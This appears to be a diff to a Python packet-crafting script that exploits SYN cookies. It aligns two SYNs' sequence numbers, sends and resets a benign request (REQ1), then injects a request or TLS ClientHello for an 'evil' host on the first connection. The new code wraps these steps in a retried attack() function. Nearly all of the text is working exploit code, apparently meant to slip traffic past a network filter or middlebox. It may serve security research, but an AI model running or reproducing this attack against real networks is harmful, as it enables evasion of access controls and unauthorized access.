@@ -45,34 +45,43 @@ if mode == "http":
 else:
     REQ1, REQ2 = client_hello(good), client_hello(evil)
     answered = lambda data: data[:1] == b"\x16"  # the ServerHello's record
-X1 = random.randint(1 << 20, 1 << 31)
-C1 = t.synack(X1)  # 1
-if C1 is None:
-    print("error no SYN-ACK")
-    sys.exit(0)
-t.send(X1 + 1, C1 + 1, ACK | PSH, b"xxxx garbage\r\n")  # 2
-got = t.until(lambda p: p["flags"] & RST)
-if not got or not got[-1]["flags"] & RST:
-    print("error the garbage was not reset")
-    sys.exit(0)
-X2 = X1 - len(REQ1)
-C2 = t.synack(X2)  # 3
-if C2 is None or C1 - C2 != len(REQ1):
-    print("error no cookie for the second SYN", C2)
-    sys.exit(0)
-t.send(X2 + 1, C2 + 1, ACK | PSH, REQ1)
-got = t.until(lambda p: answered(p["data"]))
-if not got or not answered(got[-1]["data"]):
-    print("error REQ1 not answered")
-    sys.exit(0)
-t.send(X2 + 1 + len(REQ1), 0, RST)  # 4
-t.send(X1 + 1, C1 + 1, ACK | PSH, REQ2)  # 5: in order after 4, no wait
-got = t.until(lambda p: p["flags"] & (FIN | RST) or (b"hello" in p["data"] if mode == "http" else p["data"]))
-if any(p["flags"] & RST for p in got):
-    print("error reset")
-    sys.exit(0)
-if mode == "tls":
-    print("answered %s" % evil if any(p["data"] for p in got) else "error no answer")
-    sys.exit(0)
-text = b"".join(p["data"] for p in got).decode(errors="replace").strip()
-print(text.splitlines()[-1] if text else "error no answer")
+
+
+def attack():
+    """One try: the answer's last line or `error ...`; None if the cookie changed between the
+    SYNs (Linux's cookies count minutes: a minute's turn between them)."""
+    t.sport = random.randint(42000, 60000)
+    X1 = random.randint(1 << 20, 1 << 31)
+    C1 = t.synack(X1)  # 1
+    if C1 is None:
+        return "error no SYN-ACK"
+    t.send(X1 + 1, C1 + 1, ACK | PSH, b"xxxx garbage\r\n")  # 2
+    got = t.until(lambda p: p["flags"] & RST)
+    if not got or not got[-1]["flags"] & RST:
+        return "error the garbage was not reset"
+    X2 = X1 - len(REQ1)
+    C2 = t.synack(X2)  # 3
+    if C2 is None:
+        return "error no SYN-ACK for the second SYN"
+    if C1 - C2 != len(REQ1):
+        return None
+    t.send(X2 + 1, C2 + 1, ACK | PSH, REQ1)
+    got = t.until(lambda p: answered(p["data"]))
+    if not got or not answered(got[-1]["data"]):
+        return "error REQ1 not answered"
+    t.send(X2 + 1 + len(REQ1), 0, RST)  # 4
+    t.send(X1 + 1, C1 + 1, ACK | PSH, REQ2)  # 5: in order after 4, no wait
+    got = t.until(lambda p: p["flags"] & (FIN | RST) or (b"hello" in p["data"] if mode == "http" else p["data"]))
+    if any(p["flags"] & RST for p in got):
+        return "error reset"
+    if mode == "tls":
+        return "answered %s" % evil if any(p["data"] for p in got) else "error no answer"
+    text = b"".join(p["data"] for p in got).decode(errors="replace").strip()
+    return text.splitlines()[-1] if text else "error no answer"
+
+
+for _ in range(3):  # a minute's turn twice in three tries takes minutes
+    out = attack()
+    if out is not None:
+        break
+print(out if out is not None else "error the cookie changed each time")
